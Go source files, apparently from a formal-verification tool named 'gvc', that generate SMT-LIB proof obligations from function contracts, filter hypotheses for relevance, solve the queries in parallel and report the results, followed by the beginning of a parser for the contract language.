// frame obligations: everything not listed in modifies is unchanged for objects that existed at entry
func (fr *Frame) frameObligations(ri int, r retSite) {
	fc := fr.fc
	c := fr.contract
	// collect allowed rows per heap var
	allowed := map[string][]string{}
	whole := map[string]bool{}
	for _, m := range c.Modifies {
		env := &SpecEnv{fr: fr, vars: fr.params, now: fr.pre, old: fr.pre, pkg: fr.fn.Pkg.Pkg}
		for _, t := range fr.modTargets(m, env) {
			if t.kind == "whole" {
				whole[t.heap] = true
			} else {
				allowed[t.heap] = append(allowed[t.heap], t.row)
			}
		}
	}
	var names []string
	for k := range r.st.vars {
		names = append(names, k)
	}
	sort.Strings(names)
	a0 := fc.get(fr.pre, hAlloc)
	for _, v := range names {
		if v == hAlloc || v == hIter || v == hIterN || whole[v] || strings.HasPrefix(v, "$ghost:") || v == "$xmltext" {
			// ghost variables are not program state
			continue
		}
		cur := r.st.vars[v]
		init := fc.get(fr.pre, v)
		if cur == init {
			continue
		}
		sortS := fc.sortOfVar(v)
		var goal string
		if strings.HasPrefix(sortS, "(Array") {
			sk := fc.freshConst("sk_frame", "Int")
			conds := []string{sApp("isold", sk, a0)}
			for _, row := range allowed[v] {
				conds = append(conds, sNot(sEq(sk, row)))
			}
			fc.noteRead(cur, sk)
			goal = sImp(sAnd(conds...), sEq(sSel(cur, sk), sSel(init, sk)))
		} else {
			goal = sEq(cur, init)
		}
		o := fc.oblige("frame", shortHeap(v), r.guard, goal, r.pos, fr.propsList)
		if o != nil {
			fc.facts = fc.facts[:len(fc.facts)-1]
		}
	}
}

func shortHeap(v string) string {
	v = strings.ReplaceAll(v, "github.com/privacybydesign/gabi/", "")
	v = strings.ReplaceAll(v, "github.com/privacybydesign/", "")
	return v
}

// BuildQuery renders the SMT-LIB text of one obligation.
func (o *Obligation) BuildQuery(withModel bool, lite bool) string {
	return o.BuildQueryV(withModel, lite, false)
}

// BuildQueryV: lite drops closedness and quantified frame axioms; ground additionally replaces every
// contract-level quantified hypothesis by its instances at the candidate terms (sound: hypotheses are only dropped)
func (o *Obligation) BuildQueryV(withModel bool, lite bool, ground bool) string {
	return o.BuildQueryS(withModel, lite, ground, false)
}

var reSym = regexp.MustCompile(`\|[^|]*\||[A-Za-z_$][A-Za-z0-9_$.@]*![0-9]+`)

func symsOf(s string) []string {
	m := reSym.FindAllString(s, -1)
	seen := map[string]bool{}
	var out []string
	for _, x := range m {
		if !seen[x] {
			seen[x] = true
			out = append(out, x)
		}
	}
	return out
}

// sineSelect: SInE-style relevance filter. A fact is triggered by its rarest symbols; starting from the symbols
// of the goal, triggered facts are added until a fixpoint. Dropping hypotheses is sound.
var reDefHead = regexp.MustCompile(`^\(assert \(= (\|[^|]*\||[A-Za-z_$][A-Za-z0-9_$.@]*![0-9]+) `)
var reReach = regexp.MustCompile(`^R(inv|\d+_)!\d+$`)

func sineSelect(texts []string, goal string, tolerance float64) []bool {
	return sineSelectD(texts, goal, tolerance, 1<<30)
}

// sineSelectD: as sineSelect, but facts more than maxDepth trigger steps away from the goal are left out
func sineSelectD(texts []string, goal string, tolerance float64, maxDepth int) []bool {
	occ := map[string]int{}
	fsyms := make([][]string, len(texts))
	rsyms := make([][]string, len(texts)) // reach variables mentioned
	rdef := map[string]int{}              // reach variable -> index of its defining fact
	for i, t := range texts {
		all := symsOf(t)
		for _, s := range all {
			if reReach.MatchString(s) {
				rsyms[i] = append(rsyms[i], s)
			} else {
				fsyms[i] = append(fsyms[i], s)
			}
		}
		if strings.HasPrefix(t, "(assert (= R") && len(all) > 0 && reReach.MatchString(all[0]) {
			rdef[all[0]] = i
			fsyms[i] = nil
			rsyms[i] = all
			continue
		}
		for _, s := range fsyms[i] {
			occ[s]++
		}
	}
	triggers := map[string][]int{}
	for i, t := range texts {
		// a definition (= c term) is always triggered by the constant it defines
		if m := reDefHead.FindStringSubmatch(t); m != nil && !reReach.MatchString(m[1]) {
			triggers[m[1]] = append(triggers[m[1]], i)
		}
	}
	for i, ss := range fsyms {
		if len(ss) == 0 {
			continue
		}
		min := 1 << 30
		for _, s := range ss {
			if occ[s] < min {
				min = occ[s]
			}
		}
		for _, s := range ss {
			if float64(occ[s]) <= tolerance*float64(min) {
				triggers[s] = append(triggers[s], i)
			}
		}
	}
	inc := make([]bool, len(texts))
	cone := map[string]bool{}
	type witem struct {
		s string
		d int
	}
	var work []witem
	for _, s := range symsOf(goal) {
		cone[s] = true
		work = append(work, witem{s, 0})
	}
	for len(work) > 0 {
		w := work[0]
		work = work[1:]
		if w.d >= maxDepth {
			continue
		}
		for _, i := range triggers[w.s] {
			if inc[i] {
				continue
			}
			inc[i] = true
			for _, s2 := range fsyms[i] {
				if !cone[s2] {
					cone[s2] = true
					work = append(work, witem{s2, w.d + 1})
				}
			}
		}
	}
	for i, ss := range fsyms {
		if len(ss) == 0 {
			if _, isDef := rdefOf(rdef, i); !isDef {
				inc[i] = true
			}
		}
	}
	// close under the definitions of the reach variables that occur in what was selected (and in the goal)
	var rwork []string
	rseen := map[string]bool{}
	for _, s := range symsOf(goal) {
		if reReach.MatchString(s) && !rseen[s] {
			rseen[s] = true
			rwork = append(rwork, s)
		}
	}
	for i := range texts {
		if inc[i] {
			for _, s := range rsyms[i] {
				if !rseen[s] {
					rseen[s] = true
					rwork = append(rwork, s)
				}
			}
		}
	}
	for len(rwork) > 0 {
		s := rwork[len(rwork)-1]
		rwork = rwork[:len(rwork)-1]
		if i, ok := rdef[s]; ok && !inc[i] {
			inc[i] = true
			for _, s2 := range symsOf(texts[i]) {
				if reReach.MatchString(s2) && !rseen[s2] {
					rseen[s2] = true
					rwork = append(rwork, s2)
				}
			}
		}
	}
	return inc
}

func rdefOf(rdef map[string]int, i int) (string, bool) {
	for s, j := range rdef {
		if j == i {
			return s, true
		}
	}
	return "", false
}

func (o *Obligation) BuildQueryS(withModel bool, lite bool, ground bool, sine bool) string {
	return o.BuildQueryT(withModel, lite, ground, sine, 2.0)
}

func (o *Obligation) BuildQueryT(withModel bool, lite bool, ground bool, sine bool, tol float64) string {
	return o.BuildQueryD(withModel, lite, ground, sine, tol, 1<<30)
}

func (o *Obligation) BuildQueryD(withModel bool, lite bool, ground bool, sine bool, tol float64, depth int) string {
	return o.BuildQueryX(withModel, lite, ground, sine, tol, depth, false)
}

// BuildQueryX: with extras, ground closedness and frame instances are added for the heap reads that occur in
// hypothesis instances created while the query is built (terms that never went through rd/rd2)
func (o *Obligation) BuildQueryX(withModel bool, lite bool, ground bool, sine bool, tol float64, depth int, extras bool) string {
	fc := o.fc
	var sb strings.Builder
	sb.WriteString(prelude)
	var body []string
	emit := func(t string) { body = append(body, t) }
	for i, d := range fc.decls {
		if st, ok := fc.declStamp[i]; ok && st > o.NFacts {
			continue
		}
		if sine && strings.HasPrefix(d, "(assert") {
			// point-independent facts take part in the relevance selection like path facts
			emit(d)
			continue
		}
		sb.WriteString(d)
		sb.WriteString("\n")
	}
	if !lite {
		for _, d := range fc.closedDecls {
			sb.WriteString(d)
			sb.WriteString("\n")
		}
	}
	// ground terms at which quantified hypotheses are instantiated by the generator itself
	var cands []string
	cs := map[string]bool{}
	kinds := map[string]int{}
	addk := func(t string, k int) {
		if !cs[t] {
			cs[t] = true
			cands = append(cands, t)
			kinds[t] = k
		} else if kinds[t] != 0 {
			if k == 0 {
				kinds[t] = 0
			} else {
				kinds[t] |= k
			}
		}
	}
	addc := func(t string) { addk(t, 0) }
	for _, sk := range o.Skolems {
		k := fc.skKind[sk]
		if fc.hasMixedQuant {
			// positions are used as map keys somewhere in this function's specifications
			k = 0
		}
		addk(sk, k)
		if k == kKey {
			continue
		}
		addk(sApp("-", sk, "1"), kIdx)
		addk(sApp("+", sk, "1"), kIdx)
		// positions relative to the start of appended segments, and absolute positions in backing arrays
		n := len(fc.appendLens)
		for i := n - 1; i >= 0 && i >= n-6; i-- {
			addk(sApp("-", sk, fc.appendLens[i]), kIdx)
		}
		m := len(fc.appendOffs)
		for i := m - 1; i >= 0 && i >= m-4; i-- {
			addk(sApp("+", fc.appendOffs[i], sk), kIdx)
		}
		// positions in the base of a re-sliced sequence
		l := len(fc.sliceLows)
		for i := l - 1; i >= 0 && i >= l-3; i-- {
			addk(sApp("+", fc.sliceLows[i], sk), kIdx)
		}
	}
	nLocal := len(cands) // candidates that come from the goal's own skolem constants
	isSkolem := map[string]bool{}
	for _, sk := range o.Skolems {
		isSkolem[sk] = true
	}
	prio := map[int]bool{}
	for _, c := range fc.cands[:o.NCands] {
		// a term created in a block that does not dominate the obligation's block is not defined on every
		// path to it: skip
		if cb := fc.candBlock[c]; cb != nil && o.Block != nil && cb.Parent() == o.Block.Parent() && !cb.Dominates(o.Block) {
			continue
		}
		addk(c, fc.candKind[c])
		if strings.Contains(c, "loop_") {
			n := len(fc.sliceLows)
			for i := n - 1; i >= 0 && i >= n-2; i-- {
				addk(sApp("+", fc.sliceLows[i], c), kIdx)
			}
		}
	}
	addc("0")
	if strings.Contains(o.Goal, " 1)") || strings.Contains(o.Goal, " 2)") || strings.Contains(o.Goal, " 3)") {
		// small literal positions (fixed-size lists spelled out element by element in a contract)
		addk("1", kIdx)
		addk("2", kIdx)
		addk("3", kIdx)
	}
	// terms used as indices / keys in the goal itself
	for _, t := range indexTerms(o.Goal + " " + o.Guard) {
		addc(t)
	}
	// nested quantifiers: all candidates when there are few, otherwise the goal's own terms only
	nestedCands := cands
	if len(cands) > 24 {
		nestedCands = append([]string{}, cands[:nLocal]...)
		for _, t := range indexTerms(o.Goal + " " + o.Guard) {
			nestedCands = append(nestedCands, t)
		}
		nestedCands = append(nestedCands, "0")
	}
	closedSeen := map[string]bool{}
	var closedExtra []string
	var anc map[*ssa.BasicBlock]bool
	if o.Block != nil {
		anc = fc.ancestors(o.Block)
	}
	for _, f := range fc.facts[:o.NFacts] {
		if lite && (f.Class == "closed" || f.Class == "frameq") {
			continue
		}
		// a fact guarded by the reach condition of a block that is not on any path to the obligation is irrelevant
		if anc != nil && f.Guard != "true" {
			if gb, ok := fc.reachBlock[f.Guard]; ok && !anc[gb] {
				continue
			}
		}
		for _, q := range f.Quants {
			for _, c := range append(append([]string{}, q.candsFor(cands, kinds)...), q.Consts...) {
				inst := strings.Replace(f.Term, q.Forall, q.instantiateN(c, cands, nestedCands, 1, ground, kinds), 1)
				if ground {
					for _, q2 := range f.Quants {
						if q2.Forall != q.Forall {
							inst = strings.Replace(inst, q2.Forall, "true", 1)
						}
					}
				}
				_ = isSkolem
				if f.Guard == "true" {
					emit(fmt.Sprintf("(assert %s)", inst))
				} else {
					emit(fmt.Sprintf("(assert (=> %s %s))", f.Guard, inst))
				}
				if extras {
					fc.closedForReads(inst, closedSeen, &closedExtra)
					fc.frameForReads(inst, closedSeen, &closedExtra)
				}
			}
		}
		term := f.Term
		if ground && len(f.Quants) > 0 {
			for _, q := range f.Quants {
				term = strings.Replace(term, q.Forall, "true", 1)
			}
		}
		if f.Guard == "true" {
			emit(fmt.Sprintf("(assert %s)", term))
		} else {
			emit(fmt.Sprintf("(assert (=> %s %s))", f.Guard, term))
		}
	}
	body = append(body, closedExtra...)
	if sine {
		keep := sineSelectD(body, o.Guard+" "+o.Goal, tol, depth)
		if len(prio) > 0 && len(prio) <= 400 {
			// close the selection under the symbols of the exempted instances (one more round from their symbols)
			var extraGoal strings.Builder
			for i := range body {
				if prio[i] && !keep[i] {
					extraGoal.WriteString(body[i])
					extraGoal.WriteString(" ")
				}
			}
			if extraGoal.Len() > 0 && extraGoal.Len() < 4000000 {
				keep2 := sineSelectD(body, extraGoal.String(), tol, 1)
				for i := range keep {
					if keep2[i] || prio[i] {
						keep[i] = true
					}
				}
			}
		}
		for i, t := range body {
			if keep[i] {
				sb.WriteString(t)
				sb.WriteString("\n")
			}
		}
	} else {
		for _, t := range body {
			sb.WriteString(t)
			sb.WriteString("\n")
		}
	}
	fmt.Fprintf(&sb, "; obligation %s / %s\n", o.Func, o.Name)
	fmt.Fprintf(&sb, "(assert %s)\n", o.Guard)
	fmt.Fprintf(&sb, "(assert (not %s))\n", o.Goal)
	sb.WriteString("(check-sat)\n")
	if withModel {
		sb.WriteString("(get-model)\n")
	}
	return sb.String()
}

var _ = types.Typ

// indexTerms returns the ground terms that occur as the index of a select in s (bounded in number and size)
func indexTerms(s string) []string {
	var out []string
	seen := map[string]bool{}
	var walk func(t string)
	walk = func(t string) {
		if !strings.HasPrefix(t, "(") || len(out) > 12 {
			return
		}
		args := splitSexpr(t)
		if len(args) == 0 {
			return
		}
		if args[0] == "forall" || args[0] == "exists" {
			return
		}
		if args[0] == "select" && len(args) == 3 {
			ix := args[2]
			if !seen[ix] && len(ix) < 160 && !reBoundVar.MatchString(ix) && !strings.HasPrefix(ix, "(+ (sl_off") {
				if _, isNum := numeral(ix); !isNum {
					seen[ix] = true
					out = append(out, ix)
				}
			}
		}
		for _, a := range args[1:] {
			walk(a)
		}
	}
	for _, part := range strings.Split(s, "\n") {
		walk(strings.TrimSpace(part))
	}
	return out
}

// deadReturn: the contract says `dead after <callee>` and the block of this return is dominated by a block that calls it
func (fr *Frame) deadReturn(c *Contract, blk *ssa.BasicBlock) bool {
	if blk == nil {
		return false
	}
	for _, name := range c.Dead {
		for _, b := range fr.fn.Blocks {
			if b != blk && !b.Dominates(blk) {
				continue
			}
			for _, ins := range b.Instrs {
				call, ok := ins.(ssa.CallInstruction)
				if !ok {
					continue
				}
				cc := call.Common()
				cn := ""
				if cc.IsInvoke() {
					cn = cc.Method.Name()
				} else if f := cc.StaticCallee(); f != nil {
					cn = f.String()
				}
				if cn != "" && strings.Contains(cn, name) {
					return true
				}
			}
		}
	}
	return false
}

// deadReturnOrdinal: the contract says `dead return <n>` and this return site is the n-th return statement in source order
func (fr *Frame) deadReturnOrdinal(c *Contract, r retSite) bool {
	if len(c.DeadReturns) == 0 {
		return false
	}
	ord := 1
	for _, o := range fr.rets {
		if o.pos < r.pos {
			ord++
		}
	}
	for _, n := range c.DeadReturns {
		if n == ord {
			return true
		}
	}
	return false
}
