package main

import (
	"encoding/json"
	"flag"
	"fmt"
	"go/token"
	"go/types"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/tools/go/packages"
	"golang.org/x/tools/go/ssa"
	"golang.org/x/tools/go/ssa/ssautil"
)

func loadEngine(repo string) (*Engine, error) {
	fset := token.NewFileSet()
	cfg := &packages.Config{
		Mode:       packages.NeedName | packages.NeedFiles | packages.NeedCompiledGoFiles | packages.NeedImports | packages.NeedDeps | packages.NeedTypes | packages.NeedSyntax | packages.NeedTypesInfo | packages.NeedTypesSizes | packages.NeedModule,
		Dir:        repo,
		Fset:       fset,
		BuildFlags: []string{"-tags=verif"},
		Tests:      false,
	}
	pkgs, err := packages.Load(cfg, "./...")
	if err != nil {
		return nil, err
	}
	if packages.PrintErrors(pkgs) > 0 {
		return nil, fmt.Errorf("packages contain errors")
	}
	prog, spkgs := ssautil.AllPackages(pkgs, ssa.GlobalDebug|ssa.InstantiateGenerics)
	prog.Build()
	e := &Engine{prog: prog, pkgs: pkgs, ssaPkgs: map[string]*ssa.Package{}, cs: NewContractSet(), typeTags: map[string]int{}, strLits: map[string]int{},
		fset: fset, fnContract: map[*ssa.Function]*Contract{}, trustedUsed: map[string]bool{}}
	for i, p := range pkgs {
		if spkgs[i] != nil {
			e.ssaPkgs[p.PkgPath] = spkgs[i]
		}
		if p.Module != nil {
			e.repoPrefix = p.Module.Path
		}
	}
	// contracts
	for _, p := range pkgs {
		if len(p.GoFiles) == 0 {
			continue
		}
		dir := filepath.Dir(p.GoFiles[0])
		f := filepath.Join(dir, "zz_contracts_verif.go")
		if _, err := os.Stat(f); err == nil {
			if err := LoadContracts(e.cs, p.PkgPath, f); err != nil {
				return nil, err
			}
		}
	}
	// resolve contracts to functions
	for key, c := range e.cs.Funcs {
		sp := e.ssaPkgs[c.Pkg]
		if sp == nil {
			return nil, fmt.Errorf("contract %s: package not loaded", key)
		}
		fn := e.findFunc(sp, c.Key)
		if fn == nil {
			c.Missing = true
			continue
		}
		e.fnContract[fn] = c
		c.Fn = fn
	}
	return e, nil
}

// findFunc resolves "(*T).M", "(T).M" or "F" in a package
func (e *Engine) findFunc(sp *ssa.Package, key string) *ssa.Function {
	if strings.HasPrefix(key, "(") {
		i := strings.Index(key, ").")
		if i < 0 {
			return nil
		}
		tn := key[1:i]
		mn := key[i+2:]
		ptr := strings.HasPrefix(tn, "*")
		tn = strings.TrimPrefix(tn, "*")
		obj := sp.Pkg.Scope().Lookup(tn)
		if obj == nil {
			return nil
		}
		t := obj.Type()
		if ptr {
			t = typesNewPointer(t)
		}
		ms := e.prog.MethodSets.MethodSet(t)
		for i := 0; i < ms.Len(); i++ {
			if ms.At(i).Obj().Name() == mn {
				return e.prog.MethodValue(ms.At(i))
			}
		}
		return nil
	}
	if f, ok := sp.Members[key].(*ssa.Function); ok {
		return f
	}
	return nil
}

type ObResult struct {
	Func     string   `json:"func"`
	Name     string   `json:"obligation"`
	Kind     string   `json:"kind"`
	Props    []string `json:"properties"`
	Status   string   `json:"status"`
	Solver   string   `json:"solver"`
	Secs     float64  `json:"secs"`
	Pos      string   `json:"pos,omitempty"`
	MustFail bool     `json:"canary,omitempty"`
	Cover    bool     `json:"cover,omitempty"`
	File     string   `json:"query,omitempty"`
	Agree    string   `json:"agree,omitempty"`
}

type FuncReport struct {
	Func        string   `json:"func"`
	Props       []string `json:"properties"`
	Trusted     string   `json:"trusted,omitempty"`
	Unsupported []string `json:"unsupported,omitempty"`
	Obligations int      `json:"obligations"`
	Assumptions []string `json:"assumptions,omitempty"`
	TrustedUsed []string `json:"trusted_models,omitempty"`
	Locals      []string `json:"locals,omitempty"`  // source variables of the function in declaration order
	Renamed     []string `json:"renamed,omitempty"` // identifiers of the contract resolved through the accepted list of locals
}

type RunReport struct {
	Property string       `json:"property"`
	Tier     string       `json:"tier"`
	Funcs    []FuncReport `json:"functions"`
	Results  []ObResult   `json:"results"`
	WallS    float64      `json:"wall_s"`
	Missing  []string     `json:"missing_contract_targets,omitempty"`
}

func hasProp(props []string, p string) bool {
	if p == "" || p == "all" {
		return true
	}
	for _, x := range props {
		if x == p {
			return true
		}
	}
	return false
}

func main() {
	repo := flag.String("repo", "/repo", "repository root")
	prop := flag.String("prop", "all", "property id")
	tier := flag.String("tier", "quick", "quick|thorough")
	out := flag.String("out", "", "output directory for queries and report")
	only := flag.String("func", "", "only functions whose name contains this")
	dump := flag.Bool("dump", false, "keep all query files")
	timeout := flag.Int("timeout", 0, "per-obligation timeout in seconds")
	showLoops := flag.String("loops", "", "print loop ordinals of functions whose name contains this, then exit")
	cacheDir := flag.String("cache", "", "directory caching unsat answers by query text hash")
	localsFile := flag.String("locals", "", "JSON file: function -> source variables in declaration order on the accepted tree (renamed locals are resolved by position)")
	flag.Parse()
	t0 := time.Now()
	if *cacheDir != "" {
		_ = os.MkdirAll(*cacheDir, 0o755)
		proofCacheDir = *cacheDir
	}
	if *out == "" {
		d, _ := os.MkdirTemp("", "gvc-")
		*out = d
	}
	_ = os.MkdirAll(*out, 0o755)
	eng, err := loadEngine(*repo)
	if err == nil && *localsFile != "" {
		if b, e2 := os.ReadFile(*localsFile); e2 == nil {
			_ = json.Unmarshal(b, &eng.acceptedLocals)
		}
	}
	if err != nil {
		fmt.Fprintln(os.Stderr, "gvc: load error:", err)
		os.Exit(2)
	}
	if *showLoops != "" {
		for _, sp := range eng.ssaPkgs {
			for _, fn := range ssautil_AllFunctionsOf(eng.prog, sp) {
				if !strings.Contains(fn.String(), *showLoops) || len(fn.Blocks) == 0 {
					continue
				}
				fr := &Frame{fn: fn}
				fr.analyzeLoops()
				var hs []int
				for h := range fr.loops {
					hs = append(hs, h)
				}
				sort.Ints(hs)
				for _, h := range hs {
					li := fr.loops[h]
					pos := token.NoPos
					for _, ins := range li.header.Instrs {
						if ins.Pos().IsValid() {
							pos = ins.Pos()
							break
						}
					}
					if !pos.IsValid() {
						for bi := range li.blocks {
							for _, ins := range fn.Blocks[bi].Instrs {
								if ins.Pos().IsValid() && (!pos.IsValid() || ins.Pos() < pos) {
									pos = ins.Pos()
								}
							}
						}
					}
					fmt.Printf("%s loop %d: header block %d (%s) %s\n", shortFn(fn), li.ord, h, li.header.Comment, eng.fset.Position(pos))
				}
			}
		}
		return
	}
	to := *timeout
	if to == 0 {
		to = 10
		if *tier == "thorough" {
			to = 60
		}
	}
	rep := &RunReport{Property: *prop, Tier: *tier}
	var obls []*Obligation
	var keys []string
	for k := range eng.cs.Funcs {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	for _, k := range keys {
		c := eng.cs.Funcs[k]
		if !hasProp(c.Props, *prop) && !clauseHasProp(c, *prop) {
			continue
		}
		if c.Missing {
			rep.Missing = append(rep.Missing, k)
			continue
		}
		if c.Inline {
			// an `inline` contract only says that the body is expanded at every call site under contract: its
			// obligations are generated and discharged there, in the caller's context
			continue
		}
		if *only != "" && !strings.Contains(k, *only) {
			continue
		}
		fc := eng.VerifyFunction(c.Fn, c)
		fr := FuncReport{Func: fc.fnName(), Props: c.Props, Trusted: c.Trusted, Unsupported: fc.errors, Locals: sourceLocals(c.Fn)}
		for a, b := range fc.usedAlias {
			fr.Renamed = append(fr.Renamed, a+" -> "+b)
		}
		sort.Strings(fr.Renamed)
		for a := range fc.assumptions {
			fr.Assumptions = append(fr.Assumptions, a)
		}
		if c.Restricted != "" {
			fr.Assumptions = append(fr.Assumptions, fmt.Sprintf("contract of %s covers only part of the function (%s): calls outside its pre-conditions are not covered; return sites they cut off are reported as dead:return#N (proved unreachable)", fc.fnName(), c.Restricted))
		}
		sort.Strings(fr.Assumptions)
		for a := range fc.trusted {
			fr.TrustedUsed = append(fr.TrustedUsed, a)
		}
		sort.Strings(fr.TrustedUsed)
		n := 0
		for _, o := range fc.obls {
			if o.Kind == "cover" || hasProp(o.Props, *prop) {
				obls = append(obls, o)
				n++
			}
		}
		fr.Obligations = n
		rep.Funcs = append(rep.Funcs, fr)
	}
	genSecs := time.Since(t0).Seconds()
	// solve in parallel
	qdir := filepath.Join(*out, "queries")
	_ = os.MkdirAll(qdir, 0o755)
	results := make([]ObResult, len(obls))
	var wg sync.WaitGroup
	sem := make(chan struct{}, 14)
	for i, o := range obls {
		wg.Add(1)
		go func(i int, o *Obligation) {
			defer wg.Done()
			sem <- struct{}{}
			defer func() { <-sem }()
			expectSat := o.MustFail || o.Cover
			tmo := to
			if expectSat && tmo > 3 {
				tmo = 3
			}
			tb := time.Now()
			best, all, file := solveOb(o, qdir, tmo, *tier == "thorough" && !expectSat, expectSat)
			atomic.AddInt64(&statBuildNs, int64(time.Since(tb)))
			r := ObResult{Func: o.Func, Name: o.Name, Kind: o.Kind, Props: o.Props, Status: best.Status, Solver: best.Solver, Secs: best.Secs, Pos: o.Pos, MustFail: o.MustFail, Cover: o.Cover, File: file}
			if true {
				var ag []string
				for _, x := range all {
					ag = append(ag, fmt.Sprintf("%s=%s(%.1fs)", x.Solver, x.Status, x.Secs))
				}
				r.Agree = strings.Join(ag, ",")
			}
			good := (best.Status == "unsat" && !expectSat) || (expectSat && best.Status != "unsat")
			if !*dump {
				base := o.Func + "__" + o.Name
				for _, suf := range []string{"", ".ground", ".lite", ".tight", ".micro"} {
					p := queryPath(qdir, base+suf)
					if good || p != file {
						os.Remove(p)
					}
				}
				if good {
					r.File = ""
				}
			}
			results[i] = r
		}(i, o)
	}
	wg.Wait()
	// restricted contracts: a return site that the pre-conditions make unreachable is accepted (and reported as proved
	// dead) as long as some return site of the function is reachable
	reach := map[string]bool{}
	for i, o := range obls {
		if o.Cover && o.Kind != "cover-loop" && results[i].Status != "unsat" {
			reach[o.Func] = true
		}
	}
	for i, o := range obls {
		if o.Cover && o.Restricted && results[i].Status == "unsat" && reach[o.Func] {
			results[i].Cover = false
			results[i].Kind = "dead"
			results[i].Name = strings.Replace(results[i].Name, "cover:", "dead:", 1)
			results[i].File = ""
		}
	}
	// second chance for a few undecided obligations: the first pass runs 14 solver portfolios at once, and a
	// query that needs most of its budget can time out under that load. They are re-run three at a time with
	// three times the budget, so that a pass does not depend on machine load.
	var undecided []int
	for i, r := range results {
		if !r.MustFail && !r.Cover && (r.Status == "timeout" || r.Status == "unknown") {
			undecided = append(undecided, i)
		}
	}
	if len(undecided) > 0 && len(undecided) <= 8 {
		sem2 := make(chan struct{}, 3)
		var wg2 sync.WaitGroup
		for _, i := range undecided {
			wg2.Add(1)
			go func(i int) {
				defer wg2.Done()
				sem2 <- struct{}{}
				defer func() { <-sem2 }()
				o := obls[i]
				best, all, file := solveOb(o, qdir, 3*to, false, false)
				if best.Status == "unsat" {
					r := results[i]
					r.Status, r.Solver, r.Secs = best.Status, best.Solver+"(retry)", best.Secs
					var ag []string
					for _, x := range all {
						ag = append(ag, fmt.Sprintf("%s=%s(%.1fs)", x.Solver, x.Status, x.Secs))
					}
					r.Agree += ",retry:" + strings.Join(ag, ",")
					if !*dump {
						base := o.Func + "__" + o.Name
						for _, suf := range []string{"", ".ground", ".lite", ".tight", ".micro"} {
							os.Remove(queryPath(qdir, base+suf))
						}
						r.File = ""
					}
					results[i] = r
				} else {
					_ = file
				}
			}(i)
		}
		wg2.Wait()
	}
	rep.Results = results
	rep.WallS = time.Since(t0).Seconds()
	data, _ := json.MarshalIndent(rep, "", " ")
	_ = os.WriteFile(filepath.Join(*out, "report.json"), data, 0o644)
	// summary
	okN, badN := 0, 0
	canaryAlive := map[string]bool{}
	for _, r := range results {
		if r.MustFail && r.Status != "unsat" {
			canaryAlive[r.Func+"/"+strings.SplitN(r.Name, "#", 2)[0]] = true
		}
	}
	loopReach, loopWarned := map[string]bool{}, map[string]bool{}
	for _, r := range results {
		if r.Kind == "cover-loop" && r.Status != "unsat" {
			loopReach[r.Func+"/"+r.Name] = true
		}
	}
	for _, r := range results {
		expectSat := r.MustFail || r.Cover
		good := (r.Status == "unsat" && !expectSat) || (expectSat && r.Status != "unsat")
		if r.MustFail && canaryAlive[r.Func+"/"+strings.SplitN(r.Name, "#", 2)[0]] {
			good = true
		}
		if r.Kind == "cover-loop" {
			// a loop is reported when ALL of its back edges are proved unreachable
			if r.Status == "unsat" && !loopReach[r.Func+"/"+r.Name] && !loopWarned[r.Func+"/"+r.Name] {
				loopWarned[r.Func+"/"+r.Name] = true
				fmt.Printf("WARN vacuous  %s / %s: no back edge of this loop is reachable under its invariants (its inv-keep obligations prove nothing)\n", r.Func, r.Name)
			}
			good = true
		}
		if good {
			okN++
		} else {
			badN++
			fmt.Printf("FAIL %-8s %s / %s  [%s by %s %.2fs] %s\n", r.Kind, r.Func, r.Name, r.Status, r.Solver, r.Secs, r.Pos)
		}
	}
	for _, f := range rep.Funcs {
		for _, u := range f.Unsupported {
			fmt.Printf("UNSUPPORTED %s: %s\n", f.Func, u)
		}
	}
	for _, m := range rep.Missing {
		fmt.Printf("MISSING contract target %s\n", m)
	}
	if os.Getenv("GVC_STATS") != "" {
		fmt.Printf("gvc: time in solveOb (sum over workers) %.1fs, of which solver processes %.1fs; generation %.1fs\n", float64(statBuildNs)/1e9, float64(statSolveNs)/1e9, genSecs)
	}
	fmt.Printf("gvc: property=%s functions=%d obligations=%d ok=%d failed=%d wall=%.1fs out=%s\n", *prop, len(rep.Funcs), len(results), okN, badN, rep.WallS, *out)
}

func ssautil_AllFunctionsOf(prog *ssa.Program, sp *ssa.Package) []*ssa.Function {
	var out []*ssa.Function
	for fn := range ssautil.AllFunctions(prog) {
		if fn.Pkg == sp {
			out = append(out, fn)
		}
	}
	sort.Slice(out, func(i, j int) bool { return out[i].String() < out[j].String() })
	return out
}

// clauseHasProp: some clause of the contract carries the property tag itself (ensures[C13] ...)
func clauseHasProp(c *Contract, prop string) bool {
	for _, cl := range c.Ensures {
		if hasProp(cl.Props, prop) {
			return true
		}
	}
	for _, cl := range c.Requires {
		if hasProp(cl.Props, prop) {
			return true
		}
	}
	return false
}

// sourceLocals lists the source-level variables of a function (parameters, results, locals that the SSA form still
// refers to) in the order of their declarations.
func sourceLocals(fn *ssa.Function) []string {
	type lv struct {
		pos  token.Pos
		name string
	}
	seen := map[types.Object]bool{}
	var vs []lv
	for _, b := range fn.Blocks {
		for _, ins := range b.Instrs {
			d, ok := ins.(*ssa.DebugRef)
			if !ok {
				continue
			}
			obj := d.Object()
			if obj == nil || seen[obj] {
				continue
			}
			if v, isVar := obj.(*types.Var); !isVar || v.IsField() {
				continue
			}
			seen[obj] = true
			vs = append(vs, lv{obj.Pos(), obj.Name()})
		}
	}
	sort.Slice(vs, func(i, j int) bool { return vs[i].pos < vs[j].pos })
	var out []string
	for _, v := range vs {
		out = append(out, v.name)
	}
	return out
}
