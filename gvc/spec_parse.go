package main

// Parser for the contract language kept in //@ comments.

import (
	"fmt"
	"strings"
	"unicode"
)

type Expr interface{}

type (
	EIdent struct{ Name string }
	EInt   struct{ V string }
	EStr   struct{ V string }
	EBool  struct{ V bool }
	ENil   struct{}
	EUn    struct {
		Op string
		X  Expr
	}
	EBin struct {
		Op   string
		X, Y Expr
	}
	ESel struct {
		X    Expr
		Name string
	}
	EIdx struct {
		X, I Expr
	}
	ECall struct {
		Fn   string
		Args []Expr
	}
	EQuant struct {
		All    bool
		Var    string
		Kind   string // "range", "dom", "int"
		Lo, Hi Expr
		Dom    Expr
		Body   Expr
	}
	EOld    struct{ X Expr }
	ETypeIs struct { // x is T
		X Expr
		T string
	}
	ECast struct { // x.(T)
		X Expr
		T string
	}
)

type tok struct {
	k string // "id", "int", "str", "op", "eof"
	v string
}

func lexSpec(s string) ([]tok, error) {
	var out []tok
	i := 0
	for i < len(s) {
		c := s[i]
		switch {
		case c == ' ' || c == '\t' || c == '\n':
			i++
